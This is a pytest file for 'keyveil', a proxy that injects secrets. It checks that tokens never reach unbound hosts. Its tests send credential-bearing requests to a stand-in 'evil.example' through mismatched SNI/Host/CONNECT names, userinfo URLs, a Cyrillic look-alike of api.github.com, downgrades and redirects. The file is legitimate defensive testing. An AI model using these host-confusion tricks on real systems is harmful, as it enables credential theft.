"""Host confusion: a value goes only to the host the client really connects to (I2).

Real mitmdump running keyveil, real clients (curl, httpx, raw sockets and TLS),
and an upstream whose certificate also covers the look-alike names, so that a
request keyveil wrongly let through would really arrive and be recorded. Each
test ends by checking every recorded request: a value never appears in a
request to a host it is not bound to.
"""

from __future__ import annotations

import base64
import json
import secrets
import socket
import ssl
import subprocess
import tempfile
import time
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from tests import infra
from tests.infra import wsclient
from tests.conftest import RULES, keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(120)

LOOKALIKE = "\u0430pi.github.com"  # Cyrillic а
LOOKALIKE_ACE = "xn--pi-6kc.github.com"
NAMES = (*infra.UPSTREAM_NAMES, LOOKALIKE_ACE, "*.github.com")

# The conftest rules, plus a secret that may go over plain http, so that the
# http:// cases can show an injection that happens (or must not).
PLAIN = "plain/token"
RULES_HC = RULES.replace(
    "policy:",
    "  plain/token:\n    hosts: [example.com]\n    inject: [{header: Authorization}]\n    allow_http: true\npolicy:",
)

# Where each value may be seen by the upstream (Host / :authority, port and trailing dot dropped).
BOUND = {
    "github/pat": lambda h: h in ("api.github.com", "github.com") or h.endswith(".githubusercontent.com"),
    "anthropic/key": lambda h: h == "api.anthropic.com",
    "gitlab/token": lambda h: h == "gitlab.test.keyveil",
    "ws/token": lambda h: h == "ws.test.keyveil",
    "http/token": lambda h: False,  # bound to https://example.com; these tests never send it there
    PLAIN: lambda h: h == "example.com",
}


# --- fixtures -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hup():
    with infra.Upstream(infra.make_ca(), names=NAMES) as up:
        yield up


@pytest.fixture
def up(hup):
    hup.reset()
    yield hup
    assert hup.errors == []


@pytest.fixture(scope="module")
def kv(tmp_path_factory):
    setup = make_home(tmp_path_factory.mktemp("hc"), rules=RULES_HC)
    value = b"pt_" + secrets.token_hex(16).encode()
    r = keyveil(setup.env, "secret", "set", PLAIN, stdin=value)
    assert r.returncode == 0, r.stderr
    setup.values[PLAIN] = value
    return setup


@pytest.fixture(scope="module")
def proxy(kv, hup, tmp_path_factory):
    work = tmp_path_factory.mktemp("hc-proxy")
    with keyveil_proxy(hup, work, kv) as p:
        yield p


# --- helpers -----------------------------------------------------------------------------


def forms(value: bytes) -> list[bytes]:
    b64 = base64.b64encode(value)
    return [value, b64, b64.rstrip(b"="), base64.urlsafe_b64encode(value).rstrip(b"="), quote(value, safe="").encode()]


def bare_host(authority: str) -> str:
    host = authority.strip().lower()
    if host.startswith("["):
        host = host.split("]")[0] + "]"
    else:
        host = host.rsplit(":", 1)[0] if host.count(":") == 1 else host
    return host.rstrip(".")


def assert_values_only_where_bound(up, kv) -> None:
    """No recorded request (nor WebSocket message) to a host carries a value not bound to it."""
    hits = []
    for rec in up.requests:
        host = bare_host(rec.host)
        data = rec.path.encode("latin-1") + b"".join(k + b": " + v + b"\n" for k, v in rec.headers) + rec.body
        for name, value in kv.values.items():
            if not BOUND[name](host):
                hits += [(rec.method, rec.host, rec.path, name) for f in forms(value) if f in data]
    for msg in up.ws_messages:
        data = msg.data.encode() if isinstance(msg.data, str) else msg.data
        for name, value in kv.values.items():
            if msg.direction == "client" and not BOUND[name](bare_host(msg.host)):
                hits += [("WS", msg.host, msg.path, name) for f in forms(value) if f in data]
    assert hits == [], f"values sent to hosts they are not bound to: {hits}"


def assert_no_value(data: bytes, kv) -> None:
    for name, value in kv.values.items():
        for f in forms(value):
            assert f not in data, f"{name} reached the client"


def curl(proxy, *args: str) -> tuple[int, str, bytes]:
    """(status of the last response, every response's headers, last body) from a real curl."""
    with tempfile.TemporaryDirectory() as d:
        head, body = Path(d) / "h", Path(d) / "b"
        r = subprocess.run(
            ["curl", "-sS", "--max-time", "20", "--cacert", str(proxy.ca_cert), "-x", proxy.url,
             "-D", str(head), "-o", str(body), "-w", "%{http_code}", *args],
            capture_output=True, timeout=30, env=proxy.client_env(),
        )
        code = int(r.stdout or b"0")
        return code, head.read_text("latin-1") if head.exists() else "", body.read_bytes() if body.exists() else b""


def read_all(sock) -> bytes:
    out = b""
    while True:
        try:
            data = sock.recv(65536)
        except (ConnectionError, ssl.SSLError):
            break
        if not data:
            break
        out += data
    return out


def parse_response(data: bytes) -> tuple[int, dict[str, str], bytes]:
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {}
    for line in lines[1:]:
        k, _, v = line.partition(":")
        headers[k.strip().lower()] = v.strip()
    if headers.get("transfer-encoding", "").lower() == "chunked":
        out, rest = b"", body
        while rest:
            size_line, _, rest = rest.partition(b"\r\n")
            size = int(size_line.split(b";")[0] or b"0", 16)
            if size == 0:
                break
            out, rest = out + rest[:size], rest[size + 2 :]
        body = out
    return status, headers, body


def raw_plain(proxy, request: bytes) -> tuple[int, dict[str, str], bytes]:
    """An absolute-form request written by hand to the proxy (no client library to tidy it)."""
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=15) as s:
        s.sendall(request)
        return parse_response(read_all(s))


def raw_tunnel(proxy, connect: str, sni: str | None, request: bytes) -> tuple[int, dict[str, str], bytes]:
    """CONNECT to CONNECT, TLS with SNI, then REQUEST as written: each part chosen freely."""
    s = socket.create_connection(("127.0.0.1", proxy.port), timeout=15)
    try:
        s.sendall(f"CONNECT {connect} HTTP/1.1\r\nHost: {connect}\r\n\r\n".encode())
        reply = b""
        while b"\r\n\r\n" not in reply:
            chunk = s.recv(4096)
            assert chunk, "the proxy closed the tunnel"
            reply += chunk
        assert reply.split()[1] == b"200", reply
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE  # the confused client is the attacker's: it trusts anything
        ctx.set_alpn_protocols(["http/1.1"])
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(request)
        return parse_response(read_all(t))
    finally:
        s.close()


def get(host: str, path: str = "/echo", auth: str = "Bearer {{secret:github/pat}}") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: {auth}\r\nConnection: close\r\n\r\n".encode()


def block_code(headers) -> str | None:
    if isinstance(headers, str):
        codes = [line.split(":", 1)[1].strip() for line in headers.splitlines() if line.lower().startswith("x-keyveil-block:")]
        return codes[-1] if codes else None
    return headers.get("x-keyveil-block")


def injected_auth(up, host: str) -> list[str]:
    return [r.header("authorization") for r in up.requests if bare_host(r.host) == host]


# --- CONNECT target vs Host / :authority vs SNI -------------------------------------------------


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
@pytest.mark.parametrize("auth", ["reference", "value"])
def test_connect_to_one_host_with_the_host_header_of_a_bound_host(proxy, up, kv, http, auth):
    token = "{{secret:github/pat}}" if auth == "reference" else kv.values["github/pat"].decode()
    code, head, body = curl(proxy, http, "-H", "Host: api.github.com", "-H", f"Authorization: Bearer {token}", "https://evil.example/echo")
    assert code == 421, head
    assert block_code(head) == "host_mismatch"
    assert up.requests == []
    assert_no_value(body, kv)


SNI_CASES = [
    # (CONNECT target, SNI, Host header)
    ("api.github.com:443", "evil.example", "api.github.com"),
    ("evil.example:443", "api.github.com", "api.github.com"),
    ("evil.example:443", "api.github.com", "evil.example"),
    ("evil.example:443", "evil.example", "api.github.com"),
    ("api.github.com:443", "api.github.com", "api.github.com:8443"),
]


@pytest.mark.parametrize("connect,sni,host", SNI_CASES)
def test_connect_sni_and_host_must_all_agree(proxy, up, kv, connect, sni, host):
    status, headers, body = raw_tunnel(proxy, connect, sni, get(host))
    assert status == 421, body
    assert block_code(headers) == "host_mismatch"
    assert up.requests == []
    assert_no_value(body, kv)


def test_raw_tunnel_that_agrees_is_injected(proxy, up, kv):
    """The control for the cases above: the same raw client, all three names agreeing."""
    status, _, body = raw_tunnel(proxy, "api.github.com:443", "api.github.com", get("api.github.com"))
    assert status == 200, body
    assert injected_auth(up, "api.github.com") == ["Bearer " + kv.values["github/pat"].decode()]
    assert_no_value(body, kv)
    assert_values_only_where_bound(up, kv)


def test_request_refused_for_host_mismatch_is_not_stored_with_its_value(kv, hup, tmp_path):
    """I5: the refused request's body (read after the refusal) must not reach the
    flow file (-w) or the console unsealed."""
    hup.reset()
    pat = kv.values["github/pat"].decode()
    with keyveil_proxy(hup, tmp_path / "w", kv, flowfile=tmp_path / "flows.mitm", flow_detail=4) as p:
        code, head, body = curl(
            p, "--http1.1", "-H", "Host: evil.example", "-H", f"X-Note: {pat}",
            "-H", "content-type: application/json", "--data-binary", json.dumps({"t": pat}), "https://api.github.com/echo",
        )
        assert code == 421, head
        time.sleep(0.5)
    assert hup.requests == []
    places = {"flow file": (tmp_path / "flows.mitm").read_bytes(), "console": p.output().encode()}
    found = [where for where, data in places.items() for f in forms(kv.values["github/pat"]) if f in data]
    assert found == [], f"the value is in: {found}"


# --- plain-proxy absolute form --------------------------------------------------------------


@pytest.mark.parametrize(
    "target,host",
    [
        ("http://evil.example/echo", "example.com"),
        ("http://example.com/echo", "evil.example"),
        ("http://evil.example/echo", "example.com:80"),
        ("http://example.com:8080/echo", "example.com"),
    ],
)
def test_absolute_form_with_another_host_header_is_refused(proxy, up, kv, target, host):
    req = f"GET {target} HTTP/1.1\r\nHost: {host}\r\nAuthorization: token {{{{secret:{PLAIN}}}}}\r\nConnection: close\r\n\r\n"
    status, headers, body = raw_plain(proxy, req.encode())
    assert status == 421, body
    assert block_code(headers) == "host_mismatch"
    assert up.requests == []
    assert_no_value(body, kv)


def test_absolute_form_that_agrees_is_injected(proxy, up, kv):
    """Control: plain/token is bound to http://example.com, so it is injected there."""
    req = f"GET http://example.com/echo HTTP/1.1\r\nHost: example.com\r\nAuthorization: token {{{{secret:{PLAIN}}}}}\r\nConnection: close\r\n\r\n"
    status, _, body = raw_plain(proxy, req.encode())
    assert status == 200, body
    assert injected_auth(up, "example.com") == ["token " + kv.values[PLAIN].decode()]
    assert_no_value(body, kv)
    assert_values_only_where_bound(up, kv)


def test_absolute_form_https_with_another_host_header_is_refused(proxy, up, kv):
    status, headers, body = raw_plain(proxy, get("api.github.com", "https://evil.example/echo"))
    assert status == 421, body
    assert block_code(headers) == "host_mismatch"
    assert up.requests == []


# --- userinfo --------------------------------------------------------------------------------


def test_userinfo_naming_a_bound_host_does_not_make_it_the_destination(proxy, up, kv):
    code, head, body = curl(proxy, "-H", "Authorization: Bearer {{secret:github/pat}}", "https://api.github.com@evil.example/echo")
    assert code == 403, head
    assert block_code(head) == "unbound_reference"
    assert up.requests == []
    assert_no_value(body, kv)


def test_reference_in_userinfo_toward_an_unbound_host_is_blocked(proxy, up, kv):
    ref = quote("{{secret:github/pat}}", safe="")
    code, head, body = curl(proxy, f"https://x-access-token:{ref}@evil.example/echo")
    assert code == 403, head
    assert block_code(head) == "unbound_reference"
    value = quote(kv.values["github/pat"], safe="")
    code, head, body = curl(proxy, f"https://api.github.com:{value}@evil.example/echo")
    assert code == 403, head
    assert block_code(head) == "plaintext_egress"
    assert up.requests == []


def test_userinfo_in_an_absolute_form_request_line(proxy, up, kv):
    req = (
        "GET http://example.com@evil.example/echo HTTP/1.1\r\nHost: evil.example\r\n"
        f"Authorization: token {{{{secret:{PLAIN}}}}}\r\nConnection: close\r\n\r\n"
    )
    status, _, body = raw_plain(proxy, req.encode())
    assert status in (400, 403, 421), body  # mitmproxy itself refuses this request line (400)
    assert_no_value(body, kv)
    assert_values_only_where_bound(up, kv)
    assert not [r for r in up.requests if bare_host(r.host) == "example.com"]


def test_userinfo_before_the_real_bound_host_still_injects(proxy, up, kv):
    """Control: `evil.example@api.github.com` goes to api.github.com, which is bound."""
    code, head, body = curl(proxy, "-H", "Authorization: Bearer {{secret:github/pat}}", "https://evil.example@api.github.com/echo")
    assert code == 200, head
    assert injected_auth(up, "api.github.com") == ["Bearer " + kv.values["github/pat"].decode()]
    assert_no_value(body, kv)


# --- IDN look-alikes --------------------------------------------------------------------------------


@pytest.mark.parametrize("url_host", [LOOKALIKE, LOOKALIKE_ACE])
def test_idn_lookalike_of_a_bound_host_gets_nothing(proxy, up, kv, url_host):
    pat = kv.values["github/pat"].decode()
    verify = infra.client_ssl_context(proxy.ca_cert)
    with httpx.Client(proxy=proxy.url, verify=verify, trust_env=False, timeout=20) as c:
        # control: the look-alike is reachable (its certificate is valid), so a leak would land
        ok = c.get(f"https://{url_host}/echo")
        ref = c.get(f"https://{url_host}/echo", headers={"authorization": "Bearer {{secret:github/pat}}"})
        val = c.get(f"https://{url_host}/echo", headers={"authorization": "Bearer " + pat})
    assert ok.status_code == 200
    assert [r.host for r in up.requests] == [LOOKALIKE_ACE]
    assert (ref.status_code, ref.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert (val.status_code, val.headers.get("x-keyveil-block")) == (403, "plaintext_egress")
    assert len(up.requests) == 1
    assert_no_value(ref.content + val.content, kv)
    assert_values_only_where_bound(up, kv)


def test_idn_lookalike_with_curl(proxy, up, kv):
    code, head, body = curl(proxy, "-H", "Authorization: Bearer {{secret:github/pat}}", f"https://{LOOKALIKE}/echo")
    assert code == 403, head
    assert block_code(head) == "unbound_reference"
    assert up.requests == []


# --- trailing dot and case --------------------------------------------------------------------------


@pytest.mark.parametrize("url_host", ["api.github.com.", "API.GITHUB.COM", "Api.GitHub.com."])
def test_trailing_dot_and_case_are_the_same_bound_host(proxy, up, kv, url_host):
    code, head, body = curl(proxy, "-H", "Authorization: Bearer {{secret:github/pat}}", f"https://{url_host}/echo")
    assert code == 200, head
    assert injected_auth(up, "api.github.com") == ["Bearer " + kv.values["github/pat"].decode()]
    assert_no_value(body, kv)
    assert_values_only_where_bound(up, kv)


@pytest.mark.parametrize("url_host", ["evil.example.", "EVIL.EXAMPLE", "api.github.com.evil.example"])
def test_trailing_dot_and_case_of_an_unbound_host_get_nothing(proxy, up, kv, url_host):
    code, head, body = curl(proxy, "-H", "Authorization: Bearer {{secret:github/pat}}", f"https://{url_host}/echo")
    assert code == 403, head
    assert block_code(head) == "unbound_reference"
    assert up.requests == []


@pytest.mark.parametrize(
    "connect,sni,host,expected",
    [
        ("API.GITHUB.COM:443", "api.github.com", "api.github.com", 200),
        ("api.github.com.:443", "api.github.com", "API.GitHub.Com.", 200),
        ("evil.example.:443", "evil.example", "api.github.com.", 421),
        ("EVIL.EXAMPLE:443", "evil.example", "API.GITHUB.COM", 421),
    ],
)
def test_normalised_names_are_compared_not_spellings(proxy, up, kv, connect, sni, host, expected):
    status, headers, body = raw_tunnel(proxy, connect, sni, get(host))
    assert status == expected, body
    if expected == 200:
        assert injected_auth(up, "api.github.com") == ["Bearer " + kv.values["github/pat"].decode()]
    else:
        assert block_code(headers) == "host_mismatch"
        assert up.requests == []
    assert_no_value(body, kv)
    assert_values_only_where_bound(up, kv)


# --- http:// downgrade ------------------------------------------------------------------------------


def test_http_downgrade_of_a_bound_https_host_injects_nothing(proxy, up, kv):
    code, head, body = curl(proxy, "-H", "Authorization: Bearer {{secret:github/pat}}", "http://api.github.com/echo")
    assert code == 403, head
    assert block_code(head) == "insecure_scheme"
    pat = kv.values["github/pat"].decode()
    code, head, body = curl(proxy, "-H", f"Authorization: Bearer {pat}", "http://api.github.com/echo")
    assert code == 403, head
    assert block_code(head) == "plaintext_egress"
    assert up.requests == []
    assert_no_value(body, kv)


def test_ws_downgrade_of_a_bound_wss_host_injects_nothing(proxy, up, kv):
    with wsclient.connect("ws://ws.test.keyveil/ws", proxy=proxy.url, open_timeout=10) as ws:
        ws.send('{"auth": "{{secret:ws/token}}"}')
        try:
            echo = ws.recv(timeout=5)
        except Exception:  # noqa: BLE001 - a blocked message may end the connection
            echo = ""
    assert kv.values["ws/token"].decode() not in echo
    sent = [m.data for m in up.ws_messages if m.direction == "client"]
    assert all(kv.values["ws/token"].decode() not in m for m in sent)
    assert_values_only_where_bound(up, kv)


# --- redirects ---------------------------------------------------------------------------------------


def redirect(to: str) -> str:
    return "https://api.github.com/redirect?to=" + quote(to, safe="")


def test_redirect_to_another_host_is_not_injected(proxy, up, kv):
    # --location-trusted: curl re-sends Authorization to the new host, as a careless client would
    code, head, body = curl(
        proxy, "-L", "--location-trusted", "-H", "Authorization: Bearer {{secret:github/pat}}", redirect("https://evil.example/echo")
    )
    assert code == 403, head
    assert block_code(head) == "unbound_reference"
    assert [bare_host(r.host) for r in up.requests] == ["api.github.com"]
    assert injected_auth(up, "api.github.com") == ["Bearer " + kv.values["github/pat"].decode()]
    assert_no_value(body, kv)
    assert_values_only_where_bound(up, kv)


def test_redirect_to_plain_http_of_the_bound_host_is_not_injected(proxy, up, kv):
    code, head, body = curl(
        proxy, "-L", "--location-trusted", "-H", "Authorization: Bearer {{secret:github/pat}}", redirect("http://api.github.com/echo")
    )
    assert code == 403, head
    assert block_code(head) == "insecure_scheme"
    assert [r.tls for r in up.requests] == [True]
    assert_values_only_where_bound(up, kv)


def test_redirect_to_another_bound_host_is_injected_again(proxy, up, kv):
    code, head, body = curl(
        proxy, "-L", "--location-trusted", "-H", "Authorization: Bearer {{secret:github/pat}}",
        redirect("https://raw.githubusercontent.com/echo"),
    )
    assert code == 200, head
    pat = kv.values["github/pat"].decode()
    assert [(bare_host(r.host), r.header("authorization")) for r in up.requests] == [
        ("api.github.com", "Bearer " + pat),
        ("raw.githubusercontent.com", "Bearer " + pat),
    ]
    assert_no_value(body, kv)


def test_value_in_a_redirect_location_is_scrubbed_and_never_followed(proxy, up, kv):
    pat = kv.values["github/pat"].decode()
    up.set_response("/respond", 302, {"location": f"https://evil.example/callback?code={pat}", "content-length": "0"}, [b""])
    code, head, body = curl(proxy, "-L", "https://api.github.com/respond")
    assert pat not in head
    assert "{{secret:github/pat}}" in head or quote("{{secret:github/pat}}", safe="") in head
    assert_values_only_where_bound(up, kv)
    followed = [r for r in up.requests if bare_host(r.host) == "evil.example"]
    assert len(followed) == 1 and "secret" in followed[0].path  # curl followed the scrubbed Location


def test_httpx_following_a_redirect_with_the_reference(proxy, up, kv):
    """httpx drops Authorization on a cross-origin redirect; the reference in the body is re-sent (307)."""
    up.set_response("/respond", 307, {"location": "https://evil.example/echo", "content-length": "0"}, [b""])
    verify = infra.client_ssl_context(proxy.ca_cert)
    with httpx.Client(proxy=proxy.url, verify=verify, trust_env=False, timeout=20, follow_redirects=True) as c:
        r = c.post(
            "https://gitlab.test.keyveil/respond",
            json={"token": "{{secret:gitlab/token}}"},
        )
    # gitlab/token is bound to gitlab.test.keyveil's body: not to evil.example's
    hosts = [bare_host(r.host) for r in up.requests]
    assert hosts[0] == "gitlab.test.keyveil"
    assert json.loads(up.requests[0].body) == {"token": kv.values["gitlab/token"].decode()}
    assert_no_value(r.content, kv)
    assert_values_only_where_bound(up, kv)
